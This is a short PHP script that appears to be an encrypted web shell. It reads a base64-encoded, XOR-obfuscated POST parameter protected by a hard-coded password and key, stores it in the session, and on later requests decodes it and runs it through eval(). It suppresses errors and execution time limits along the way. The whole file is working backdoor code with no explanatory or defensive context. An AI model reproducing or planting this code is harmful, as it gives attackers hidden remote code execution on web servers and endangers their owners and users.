<?php
@session_start();
@set_time_limit(0);
@error_reporting(0);
function decode($D, $K)
{
    for ($i = 0; $i < strlen($D); $i++) {
        $c = $K[$i + 1 & 15];
        $D[$i] = $D[$i] ^ $c;
    }
    return $D;
}
$pass = 'pass';
$payloadName = 'payload';
$key = '3c6e0b8a9c15224a';
if (isset($_POST[$pass])) {
    $data = decode(base64_decode($_POST[$pass]), $key);
    if (isset($_SESSION[$payloadName])) {
        $payload = decode($_SESSION[$payloadName], $key);
        eval($payload);
    } else {
        $_SESSION[$payloadName] = $data;
    }
}
